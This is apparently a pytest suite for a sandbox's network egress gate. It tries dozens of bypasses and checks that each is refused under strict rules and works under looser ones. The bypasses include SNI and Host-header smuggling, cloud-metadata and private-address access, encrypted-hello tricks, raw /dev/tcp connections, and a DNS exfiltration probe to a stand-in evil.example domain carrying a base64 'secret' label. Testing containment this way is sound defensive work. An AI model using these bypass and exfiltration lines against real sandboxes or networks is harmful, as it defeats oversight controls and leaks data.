"""The way out by rules: attacks on the gate, each with the rules under which the same line works.

All traffic is in network namespaces of the tests' own (paddock_testing/internet.py).
"""

import os
import re
import signal
import subprocess
from dataclasses import dataclass
from pathlib import Path

import pytest
from paddock_testing.internet import ns
from paddock_testing.run import rounds, seconds, wait_for

GET = f"curl -sSfk -m {int(seconds(60))} "
PY = "/usr/bin/python3 -c "
A = "--allow a.example"


@dataclass
class Attack:
    name: str
    rules: str
    line: str     # exits with 0 when it worked
    control: str  # rules under which it must work


def python(code):
    assert "'" not in code
    return PY + "'" + code + "'"


# h is a hello as OpenSSL's client makes it, in one record: its extensions begin behind version, random, session, suites
# and methods of compression.
INSERTED = """
m = h[5:]
at = 38
at += 1 + m[at]
at += 2 + int.from_bytes(m[at:at+2], "big")
at += 1 + m[at]
x = MORE + m[at+2:]
m = m[:at] + len(x).to_bytes(2, "big") + x
m = m[:1] + (len(m) - 4).to_bytes(3, "big") + m[4:]
h = b"".join(bytes([22, 3, 1]) + len(m[i:i+16000]).to_bytes(2, "big") + m[i:i+16000] for i in range(0, len(m), 16000))
"""


def extension(kind, body):
    return f'bytes([{kind >> 8}, {kind & 255}]) + len({body}).to_bytes(2, "big") + {body}'


def hello(name, host, port=443, cut=0, more=""):
    """Says a ClientHello for `name` to `host`; works when a ServerHello comes back. `more` is an expression: what is put
    before its extensions, and the message is in records of 16,000 bytes then."""
    send = (f"for i in range(0, len(h), {cut}): s.sendall(h[i:i+{cut}])\n" if cut else
            "s.sendall(h)\n")
    return python(
        "import ssl, socket, sys\n"
        "i, o = ssl.MemoryBIO(), ssl.MemoryBIO()\n"
        "c = ssl._create_unverified_context()\n"
        f"w = c.wrap_bio(i, o, server_hostname={name!r})\n".replace("'", '"') +
        "try: w.do_handshake()\nexcept ssl.SSLWantReadError: pass\n"
        "h = o.read()\n" + (INSERTED.replace("MORE", more) if more else "") +
        f's = socket.create_connection(("{host}", {port}), 60)\n'
        "s.setsockopt(6, 1, 1)\n" + send +
        "sys.exit(s.recv(1) != bytes([22]))")


def raw_http(host, text, wanted="reached"):
    return python("import socket, sys\n"
                  f's = socket.create_connection(("{host}", 80), 60)\n'
                  f's.sendall(b"{text}")\n'
                  'd = b""\nwhile True:\n n = s.recv(999)\n if not n: break\n d += n\n'
                  f'sys.exit(b"{wanted}" not in d)')


def dns(name, kind=1, server="203.0.113.53", tcp=False):
    """Asks for a name; works when there is an answer with a record in it."""
    return python("import socket, struct, sys\n"
                  f'q = struct.pack(">HHHHHH", 9, 256, 1, 0, 0, 0)\n'
                  f'for l in "{name}".split("."): q += bytes([len(l)]) + l.encode()\n'
                  f'q += bytes([0]) + struct.pack(">HH", {kind}, 1)\n' +
                  (f's = socket.create_connection(("{server}", 53), 60)\n'
                   's.sendall(struct.pack(">H", len(q)) + q)\nr = s.recv(2000)[2:]\n' if tcp else
                   "s = socket.socket(2, 2); s.settimeout(60)\n"
                   f's.sendto(q, ("{server}", 53)); r = s.recv(2000)\n') +
                  'sys.exit(not r or struct.unpack(">H", r[6:8])[0] == 0)')


OPEN = "--egress open"
LONG_QUESTION = python('import socket, struct, sys\n'
                       's = socket.create_connection(("203.0.113.53", 53), 60)\n'
                       's.sendall(struct.pack(">H", 65535) + bytes(65535))\n'
                       'r = s.recv(2000)[2:]\nsys.exit(not r or struct.unpack(">H", r[6:8])[0] == 0)')
LOOP = python('import socket, struct, sys\n'
              's = socket.create_connection(("203.0.113.53", 53), 60)\n'
              'q = struct.pack(">HHHHHH", 9, 256, 1, 0, 0, 0) + bytes([192, 12, 0, 1, 0, 1])\n'
              's.sendall(struct.pack(">H", len(q)) + q)\nr = s.recv(2000)[2:]\n'
              'sys.exit(not r or struct.unpack(">H", r[6:8])[0] == 0)')
# 127.0.0.1 itself is the sandbox: the machine's would be reached by a name in a head.
LOOPBACK = python('import socket, sys\n'
                  's = socket.create_connection(("203.0.113.7", 7070), 60)\n'
                  's.sendall(b"GET / HTTP/1.1\\r\\nHost: loopback.example\\r\\n\\r\\n")\n'
                  'sys.exit(b"the host" not in s.recv(99))')
# As clients make it (RFC 9849): outer, HKDF-SHA256 with AES-128-GCM, a number, a key, and the inner hello as 200 bytes.
ENCRYPTED = extension(0xfe0d, 'bytes([0, 0, 1, 0, 1, 7, 0, 32]) + bytes(32) + bytes([0, 200]) + bytes(200)')
# Speaks TLS with a.example, and in it says something; works when an answer begins as it should.
IN_TLS = python('import ssl, socket, sys\n'
                'c = ssl._create_unverified_context()\n'
                's = c.wrap_socket(socket.create_connection(("a.example", 443), 60), server_hostname="a.example")\n'
                '%s\ns.sendall(h)\nsys.exit(s.recv(1) != wanted)')
INNER_HELLO = ('i, o = ssl.MemoryBIO(), ssl.MemoryBIO()\nw = c.wrap_bio(i, o, server_hostname="b.example")\n'
               'try: w.do_handshake()\nexcept ssl.SSLWantReadError: pass\nh, wanted = o.read(), bytes([22])')
SECOND_NAME = extension(0, 'bytes([0, 12, 0, 0, 9]) + b"b.example"')
ATTACKS = [
    Attack("another-name", A, GET + "http://b.example/", "--allow b.example"),
    Attack("another-name-tls", A, GET + "https://b.example/", "--allow b.example"),
    Attack("a-name-below", A, GET + "https://sub.a.example/", "--allow *.a.example"),
    Attack("the-bare-name-of-a-wildcard", "--allow *.a.example", GET + "https://a.example/", A),
    Attack("another-port", A, "exec 3<>/dev/tcp/a.example/7777; echo x >&3; read -t 60 y <&3",
           A + ":7777"),
    Attack("an-address", A, GET + "http://203.0.113.8/", "--allow 203.0.113.8"),
    Attack("an-address-tls", A, GET + "https://203.0.113.8/", "--allow 203.0.113.0/24:443"),
    Attack("an-address-6", A, GET + "http://[2001:db8::7]/", "--allow 2001:db8::/32"),
    Attack("nothing-allowed", "--egress list", GET + "http://a.example/", A),
    # Addresses that are never dialled.
    Attack("private", OPEN, GET + "http://10.9.9.9/", OPEN + " --allow-private 10.0.0.0/8"),
    Attack("metadata", OPEN, GET + "http://169.254.169.254/",
           OPEN + " --allow-private 169.254.169.254"),
    Attack("metadata-mapped", OPEN, GET + "http://[::ffff:169.254.169.254]/",
           OPEN + " --allow-private 169.254.169.254"),
    Attack("nat64", OPEN, GET + "http://[64:ff9b::a09:909]/",
           OPEN + " --allow-private 64:ff9b::/96"),
    Attack("private-by-rule", "--allow 10.9.9.9", GET + "http://10.9.9.9/",
           "--allow 10.9.9.9 --allow-private 10.9.9.9"),
    Attack("name-to-private", "--allow private.example", GET + "http://private.example/",
           "--allow private.example --allow-private 10.9.9.9"),
    Attack("name-to-metadata", OPEN, GET + "http://metadata.example/",
           OPEN + " --allow-private 169.254.169.254"),
    Attack("name-to-metadata-by-another-address", OPEN,
           GET + "--resolve metadata.example:80:203.0.113.7 http://metadata.example/"
           " | grep 169.254.169.254",
           OPEN + " --allow-private 169.254.169.254"),
    Attack("one-record-of-two-is-private", "--allow two.example",
           GET + "http://two.example/ | grep 10.9.9.9",
           "--allow two.example --allow-private 10.9.9.9"),
    Attack("denied-network-behind-a-name", OPEN + " --deny 203.0.113.0/24",
           GET + "http://a.example/", OPEN),
    Attack("denied-network", OPEN + " --deny 203.0.113.0/24", GET + "http://203.0.113.7/",
           OPEN + " --deny 203.0.113.8"),
    # Names that are said and not meant.
    Attack("allowed-name-at-another-address", A,
           GET + "--resolve a.example:80:203.0.113.8 http://a.example/ | grep 203.0.113.8",
           "--allow 203.0.113.8"),
    Attack("another-host-at-an-allowed-address", A,
           GET + "-H Host:b.example http://203.0.113.7/", "--allow 203.0.113.7"),
    Attack("another-sni-at-an-allowed-address", A, hello("b.example", "203.0.113.7"),
           "--allow 203.0.113.7"),
    Attack("sni-in-single-bytes", A, hello("b.example", "203.0.113.7", cut=1),
           "--allow b.example"),
    # To a server that says what it hears: no TLS of its own refuses anything.
    Attack("two-names-in-a-hello", A + ":7777", hello("a.example", "203.0.113.7", 7777, more=SECOND_NAME), ""),
    Attack("hello-of-64-KiB", A + ":7777", hello("a.example", "203.0.113.7", 7777, more=extension(21, "bytes(60000)")), ""),
    # The name inside of an encrypted hello is not seen: the one outside is judged, and dialled.
    Attack("encrypted-hello-outside-another-name", A, hello("b.example", "203.0.113.7", more=ENCRYPTED), "--allow b.example"),
    Attack("encrypted-hello-without-a-name", A, hello(None, "203.0.113.7", more=ENCRYPTED), "--allow 203.0.113.7"),
    Attack("tls-in-tls", A, IN_TLS % INNER_HELLO, ""),
    Attack("tls-without-a-name", A, hello(None, "203.0.113.7"), "--allow 203.0.113.7"),
    Attack("a-name-with-a-dot-at-its-end", A, GET + "http://b.example./", "--allow b.example"),
    # TLS is not looked into: a client may say another Host there, and it is the allowed name's server that hears it.
    Attack("another-host-in-tls", A, GET + "-H Host:b.example https://a.example/ | grep 203.0.113.8",
           ""),
    Attack("host-in-decimal", A + " --allow 203.0.113.7", raw_http("203.0.113.7", "GET / HTTP/1.1\\r\\nHost: 3405803783\\r\\n"
                                          "\\r\\n"), ""),
    Attack("two-hosts", A + " --allow 203.0.113.7",
           raw_http("203.0.113.7", "GET / HTTP/1.1\\r\\nHost: a.example\\r\\nHost: b.example\\r\\n"
                    "\\r\\n"), ""),
    Attack("connect", A + " --allow 203.0.113.7",
           raw_http("203.0.113.7", "CONNECT b.example:80 HTTP/1.1\\r\\nHost: a.example\\r\\n\\r\\n"),
           ""),
    Attack("absolute-form-of-another", A + " --allow 203.0.113.7",
           raw_http("203.0.113.7", "GET http://b.example/ HTTP/1.1\\r\\nHost: a.example\\r\\n\\r\\n"),
           ""),
    Attack("folded-host", A + " --allow 203.0.113.7",
           raw_http("203.0.113.7", "GET / HTTP/1.1\\r\\nHost: a.example\\r\\n b.example\\r\\n\\r\\n"), ""),
    # It reaches the server that was allowed, and no other.
    Attack("another-host-on-the-same-connection", A + " --allow b.example",
           raw_http("203.0.113.7", "GET / HTTP/1.1\\r\\nHost: a.example\\r\\n\\r\\n"
                    "GET / HTTP/1.1\\r\\nHost: b.example\\r\\n\\r\\n", "reached 203.0.113.8"), ""),
    Attack("host-in-octal", A + " --allow 203.0.113.7",
           raw_http("203.0.113.7", "GET / HTTP/1.1\\r\\nHost: 0313.0.0161.07\\r\\n\\r\\n"), ""),
    # DNS.
    Attack("question-of-another-kind-null", A, dns("a.example", 10), ""),
    Attack("question-of-another-kind-txt", OPEN, dns("a.example", 16), ""),
    Attack("question-of-another-kind-https", OPEN, dns("a.example", 65), ""),
    Attack("question-for-a-look-alike", A, dns(r"\u0430.example"), ""),
    Attack("question-of-65535-bytes", A, LONG_QUESTION, ""),
    Attack("question-for-a-name-of-300-bytes", "--allow *.a.example", dns(".".join(["x" * 60] * 5) + ".a.example"), ""),
    Attack("question-that-points-to-itself", OPEN, LOOP, ""),
    Attack("question-for-another", A, dns("b.example"), "--allow b.example"),
    Attack("question-by-tcp", A, dns("b.example", tcp=True), "--allow b.example"),
    Attack("question-of-another-server", A, dns("b.example", server="8.8.8.8"), "--allow b.example"),
    Attack("question-in-another-case", A, dns("B.eXample"), "--allow b.example"),
    Attack("longer-name", A, dns("a.example.evil.example"),
           "--allow a.example.evil.example --egress-host a.example.evil.example=203.0.113.7"),
    Attack("private-answer", OPEN, dns("private.example"), OPEN + " --allow-private 10.9.9.9"),
    # The machine itself: 7070 is served by it on all its addresses.
    Attack("the-machine", OPEN, "exec 3<>/dev/tcp/192.0.2.129/7070; read -t 60 x <&3",
           OPEN + " --allow-private 192.0.2.129"),
    Attack("the-machine-in-a-lifted-network", OPEN + " --allow-private 192.0.2.0/24",
           "exec 3<>/dev/tcp/192.0.2.129/7070; read -t 60 x <&3",
           OPEN + " --allow-private 192.0.2.129"),
    Attack("the-machine-by-name", OPEN, "exec 3<>/dev/tcp/machine.example/7070; read -t 60 x <&3",
           OPEN + " --allow-private 192.0.2.129"),
    Attack("the-machines-loopback-by-name", OPEN, LOOPBACK, OPEN + " --allow-private 127.0.0.1"),
    Attack("the-machine-6", OPEN, "exec 3<>/dev/tcp/2001:db8:1::1/7070; read -t 60 x <&3",
           OPEN + " --allow-private 2001:db8:1::1"),
]
# Lines that no rules make work: the control is that the same line without its trick does.
HARD = {
    "two-names-in-a-hello": hello("a.example", "203.0.113.7", 7777, more=extension(21, "bytes(9)")),
    "hello-of-64-KiB": hello("a.example", "203.0.113.7", 7777, more=extension(21, "bytes(9000)")),
    "tls-in-tls": IN_TLS % 'h, wanted = b"GET / HTTP/1.1\\r\\nHost: a.example\\r\\n\\r\\n", b"H"',
    "another-host-on-the-same-connection": raw_http(
        "203.0.113.8", "GET / HTTP/1.1\\r\\nHost: b.example\\r\\n\\r\\n", "reached 203.0.113.8"),
    "question-for-a-name-of-300-bytes": dns("sub.a.example"),
    "question-that-points-to-itself": dns("a.example", tcp=True),
    "another-host-in-tls": GET + "-H Host:b.example https://a.example/ | grep 203.0.113.7",
    "folded-host": raw_http("203.0.113.7", "GET / HTTP/1.1\\r\\nHost: a.example\\r\\n\\r\\n"),
    "host-in-octal": raw_http("203.0.113.7", "GET / HTTP/1.1\\r\\nHost: a.example\\r\\n\\r\\n"),
    "question-of-another-kind-null": dns("a.example"),
    "question-of-another-kind-txt": dns("a.example"),
    "question-of-another-kind-https": dns("a.example"),
    "question-for-a-look-alike": dns("a.example"),
    "question-of-65535-bytes": dns("a.example", tcp=True),
    "two-hosts": raw_http("203.0.113.7", "GET / HTTP/1.1\\r\\nHost: a.example\\r\\n\\r\\n"),
    "connect": raw_http("203.0.113.7", "GET / HTTP/1.1\\r\\nHost: a.example\\r\\n\\r\\n"),
    "absolute-form-of-another": raw_http(
        "203.0.113.7", "GET http://a.example/ HTTP/1.1\\r\\nHost: a.example\\r\\n\\r\\n"),
    "host-in-decimal": raw_http("203.0.113.7", "GET / HTTP/1.1\\r\\nHost: a.example\\r\\n\\r\\n"),
}


@pytest.fixture(scope="module")
def machine(internet):
    p = internet.listen_near(7070)
    yield internet
    p.kill()
    p.wait()


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda a: a.name)
def test_attack_is_refused_and_works_where_it_may(machine, attack):
    refused = machine.run(attack.rules, attack.line)
    assert refused.returncode not in (0, 124, 125, 126, 127), refused

    line = HARD.get(attack.name, attack.line)
    worked = machine.run(attack.rules if attack.name in HARD else attack.control, line)
    assert worked.returncode == 0, worked


OWN = ["127.0.0.1", "192.0.2.2", "::1"]


@pytest.mark.parametrize("address", OWN)
def test_the_gates_own_port_is_closed_to_the_sandbox(internet, address):
    family = "AF_INET6" if ":" in address else "AF_INET"
    line = python(f'import socket\ns = socket.socket(socket.{family}); s.settimeout(60)\n'
                  'request = b"GET / HTTP/1.1\\r\\nHost: a.example\\r\\n\\r\\n"\n'
                  # The reset may come at any of the three.
                  f'try: s.connect(("{address}", 3)); s.sendall(request); d = s.recv(9)\n'
                  'except (ConnectionResetError, BrokenPipeError): d = b"reset"\nprint(d)')
    r = internet.run(OPEN, line)
    assert r.returncode == 0 and "reset" in r.stdout, r
    # The control: a port of that address with a server of the sandbox's own.
    served = (f'import socket, threading\nl = socket.create_server(("{address}", 3001), family=socket.{family})\n'
              'kept = []  # whoever closes with a request unread resets\n'
              'def serve(): kept.append(l.accept()[0]); kept[0].sendall(b"inside")\n'
              'threading.Thread(target=serve, daemon=True).start()\n')
    r = internet.run(OPEN, line.replace("'import socket\n", "'" + served, 1).replace(", 3));", ", 3001));"))
    assert r.returncode == 0 and "inside" in r.stdout, r


def test_its_own_servers_stay_its_own(internet):
    """A server inside on all addresses is reached by the sandbox's own, and catches nobody else's."""
    r = internet.run(A, python(
        'import socket, threading\n'
        's = socket.create_server(("0.0.0.0", 8000))\n'
        'threading.Thread(target=lambda: [s.accept()[0].sendall(b"inside") for _ in range(9)],'
        ' daemon=True).start()\n'
        'for a in ("127.0.0.1", "192.0.2.2"): print(socket.create_connection((a, 8000)).recv(9))\n'
        'try: print(socket.create_connection(("203.0.113.7", 8000), 60).recv(9))\n'
        'except ConnectionResetError: print("reset")'))
    assert r.stdout.split() == ["b" + repr("inside"), "b" + repr("inside"), "reset"], r


UDP = python('import socket\ns = socket.socket(2, 2); s.settimeout(60); s.connect(("%s", 7777))\n'
             's.send(b"x"); s.recv(9)')
UDP_SERVER = python('import socket\ns = socket.socket(2, 2); s.bind(("0.0.0.0", 7777))\n'
                    'print(flush=True)\nd, w = s.recvfrom(9); s.sendto(d, w)')


def test_datagrams_go_nowhere_but_to_the_sandbox_itself(internet):
    r = internet.run(OPEN, UDP % "203.0.113.7")
    assert r.returncode not in (0, 124, 125, 127) and "Connection refused" in r.stderr, r
    r = internet.run(OPEN, "coproc " + UDP_SERVER + "; read x <&${COPROC[0]}; " + UDP % "127.0.0.1")
    assert r.returncode == 0, r


@pytest.mark.parametrize("what", ["2, 3, 1", "2, 2, 1", "17, 3", "40, 1", "16, 3, 12"],
                         ids=["raw", "icmp", "packet", "vsock", "nftables"])
def test_other_sockets_are_not_to_be_had(internet, what):
    """test_seccomp and test_net have their controls."""
    r = internet.run(OPEN, python(f"import socket; socket.socket({what})"))
    assert r.returncode == 1 and "Error" in r.stderr, r


def test_a_name_that_changes_is_looked_at_each_time(internet):
    """The first answer is public, all later ones private: the gate dials what it finds itself."""
    r = internet.run("--allow flip.example", "getent ahostsv4 flip.example | head -1;"
                     " curl -sS -m 120 http://flip.example/; echo status $?")
    assert "reached 10.9.9.9" not in r.stdout and "203.0.113.7" in r.stdout, r
    r = internet.run("--allow flip.example --allow-private 10.9.9.9", GET + "http://flip.example/")
    assert "reached 10.9.9.9" in r.stdout, r


def test_answers_that_nobody_was_asked_for_are_not_believed(internet):
    """Of another number, to another question, from another server, each before the true one."""
    r = internet.run("--allow forged.example", GET + "http://forged.example/")
    assert r.stdout == "reached 203.0.113.7\n", r
    # The control: a client of the machine's side that asks in the same way gets all four, the forged ones first.
    ask = ("import socket, struct\nq = struct.pack('>HHHHHH', 9, 256, 1, 0, 0, 0) + b'\\6forged\\7example\\0\\0\\1\\0\\1'\n"
           "s = socket.socket(2, 2); s.settimeout(60); s.sendto(q, ('203.0.113.53', 53))\n"
           "print([s.recv(999)[-1] for _ in range(4)])")
    got = subprocess.run(ns(internet.near.pid, "/usr/bin/python3", "-c", ask), capture_output=True, text=True, check=True)
    assert got.stdout == "[8, 8, 8, 7]\n", got


def test_questions_that_are_refused_do_not_leave(internet):
    r = internet.run(A, "getent hosts c2VjcmV0.evil.example; " + dns("secret2.a.example", 16) + "; "
                     + dns("a.example", 16) + "; " + GET + "http://a.example/questions")
    assert "evil" not in r.stdout and "secret2" not in r.stdout and "a.example/16" not in r.stdout
    assert "a.example/1" in r.stdout, r
    r = internet.run(OPEN, "getent hosts c2VjcmV0.evil.example; " + GET + "http://a.example/questions")
    assert "evil" in r.stdout, r


def test_a_server_that_speaks_first_is_reached_by_the_name_that_was_asked_for(internet):
    talk = ("exec 3<>/dev/tcp/%s/2222; read -t 60 x <&3; echo $x; echo hi >&3; read -t 60 y <&3;"
            " echo $y")
    r = internet.run(A + ":2222", talk % "a.example")
    assert r.stdout.split("\n")[:2] == ["hello from the server", "got 3"], r
    r = internet.run(A + ":2222", talk % "203.0.113.7")  # nobody asked for the name
    assert "hello" not in r.stdout, r


def test_whoever_waits_and_then_says_another_name_is_cut_off(internet):
    line = python('import socket, sys\n'
                  's = socket.create_connection(("a.example", 2222), 60)\n'
                  'print(s.recv(99))\n'
                  's.sendall(b"GET / HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n")\n'
                  'try: print(s.recv(99))\nexcept ConnectionResetError: print("reset")')
    r = internet.run(A + ":2222", line % "b.example")
    assert "hello" in r.stdout and "reset" in r.stdout and "got" not in r.stdout, r
    r = internet.run(A + ":2222", line % "a.example")
    assert "hello" in r.stdout and "got" in r.stdout, r


def test_bytes_arrive_whole_both_ways(internet):
    """Much at once, to and from a server that says what it hears, by a client that does not read until nothing more is taken
    from it: what the gate then holds, in both directions, is whole as well."""
    r = internet.run(A + ":7777 " + A, PY + "'"
                     'import os, select, socket, threading\n'
                     's = socket.create_connection(("a.example", 7777), 60)\n'
                     'd = memoryview(os.urandom(1 << 20) * 2)\n'
                     'def piece(at, n): return d[at % (1 << 20):][:n]\n'
                     'held = 0\n'
                     'while select.select([], [s], [], 0.3)[1]: held += s.send(piece(held, 500000))\n'
                     'def send():\n for at in range(held, held + 5000000, 500000): s.sendall(piece(at, 500000))\n s.shutdown(1)\n'
                     'threading.Thread(target=send).start()\n'
                     'got, whole = 0, True\n'
                     'while (n := s.recv(300000)):\n whole &= n == piece(got, len(n))\n got += len(n)\n'
                     "print(whole, got == held + 5000000)'; curl -sS http://a.example/big5000000 | wc -c")
    assert r.stdout.split() == ["True", "True", "5000000"], r


def test_refusals_are_told_in_words_and_in_the_record(internet):
    r = internet.run(A + " --json", "curl -sS http://203.0.113.8/x; curl -sSk https://203.0.113.8/;"
                     " curl -sS http://b.example")
    assert "may not connect" in r.stdout and "no rule allows it" in r.stdout, r
    assert "alert access denied" in r.stdout and "Could not resolve host" in r.stdout, r
    assert re.search(r'"denied":\[.*"host":"203.0.113.8","port":80', r.stdout), r


def gates_of(pid):
    """Gates that are children of this process."""
    found = []
    for task in Path(f"/proc/{pid}/task").glob("*/children"):
        for child in task.read_text().split():
            if b"gate" in Path(f"/proc/{child}/cmdline").read_bytes().split(b"\0")[1:2]:
                found.append(int(child))
    return found


def begun(internet, line):
    """A run whose command has written its first line, and its gate."""
    p = internet.start(A, line)
    assert p.stdout.readline() == "begun\n"
    (gate,) = gates_of(p.pid)
    return p, gate


SLOW = python('import socket\n'
              's = socket.create_connection(("a.example", 80), 60)\n'
              's.sendall(b"GET /slow HTTP/1.0\\r\\nHost: a.example\\r\\n\\r\\n")\n'
              's.recv(999)\nprint("begun", flush=True)\n'
              'try:\n while s.recv(999): pass\n print("clean end")\n'
              'except ConnectionResetError: print("reset")')


def test_a_transfer_that_the_gate_dies_in_never_looks_complete(internet):
    for _ in range(rounds(5, 200)):
        p, gate = begun(internet, SLOW)
        os.kill(gate, signal.SIGKILL)
        out, err = p.communicate(timeout=seconds(60))
        assert out == "reset\n", (out, err)


def test_the_gate_is_nobody_and_has_nothing(internet):
    p, gate = begun(internet, SLOW)
    try:
        status = Path(f"/proc/{gate}/status").read_text()
        fields = dict(line.split(":", 1) for line in status.splitlines())
        uids = set(fields["Uid"].split())
        assert len(uids) == 1 and int(uids.pop()) > 1 << 29
        assert fields["Groups"].split() == []
        assert all(int(fields[f], 16) == 0 for f in ("CapEff", "CapPrm", "CapInh", "CapAmb"))
        assert fields["NoNewPrivs"].strip() == "1" and fields["Seccomp"].strip() == "2"
        kinds = {os.readlink(f"/proc/{gate}/fd/{n}").split(":")[0]
                 for n in os.listdir(f"/proc/{gate}/fd")}
        assert kinds <= {"socket", "anon_inode", "/dev/null", "pipe"}, kinds
        # The control: a process of the machine, such as this one, has more.
        assert int(re.search(r"CapEff:\s*(\w+)", Path("/proc/self/status").read_text())[1], 16)
    finally:
        p.kill()
        p.communicate()


def test_no_gate_stays_when_its_run_has_ended(internet):
    here = os.readlink(f"/proc/{internet.near.pid}/ns/net")

    def gates():
        found = []
        for p in Path("/proc").glob("[0-9]*"):
            try:
                if (os.readlink(p / "ns/net") == here
                        and (p / "cmdline").read_bytes().split(b"\0")[1:2] == [b"gate"]):
                    found.append(p.name)
            except OSError:
                pass
        return found

    p, gate = begun(internet, SLOW)
    assert gates() == [str(gate)]
    p.kill()
    p.communicate()
    for _ in range(rounds(2, 50)):
        assert internet.run(A, GET + "http://a.example/").returncode == 0
    wait_for(lambda: not gates(), 20, "gates are gone")
